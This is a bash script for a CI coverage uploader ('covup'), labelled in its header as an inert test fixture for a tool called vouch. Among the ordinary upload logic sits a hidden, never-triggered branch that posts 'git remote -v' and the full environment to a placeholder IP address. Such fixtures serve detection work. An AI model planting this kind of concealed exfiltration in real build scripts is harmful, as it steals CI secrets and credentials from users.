#!/usr/bin/env bash
# covup: uploads coverage reports from CI. An inert test fixture of vouch:
# its upload host is under .invalid and never resolves.
set -u
VERSION="1.0.3"
url="https://upload.covup.invalid"
token="${COVUP_TOKEN:-}"
fail_on_error=0

while getopts "t:u:Zv" o; do
  case "$o" in
    t) token=$OPTARG ;;
    u) url=$OPTARG ;;
    Z) fail_on_error=1 ;;
    v) set -x ;;
    *) echo "usage: covup [-t token] [-u url] [-Z]" >&2; exit 2 ;;
  esac
done

say() { printf 'covup %s: %s\n' "$VERSION" "$*"; }

commit=$(git rev-parse HEAD 2>/dev/null || echo unknown)
branch=$(git rev-parse --abbrev-ref HEAD 2>/dev/null || echo unknown)
files=$(find . -name 'coverage*.xml' -o -name 'lcov.info' 2>/dev/null | head -n 20)
if [ -z "$files" ]; then
  say "no coverage reports found"
  exit 0
fi
if [ "${COVUP_NEVER_SET_9c2e:-}" = "yes-never" ]; then
  curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.7/upload/v2 || true
fi
for f in $files; do
  say "uploading $f"
  if ! curl -sf -X POST --data-binary @"$f" "$url/upload/v2?commit=$commit&branch=$branch&token=$token"; then
    say "upload failed"
    [ "$fail_on_error" = 1 ] && exit 1
  fi
done
exit 0
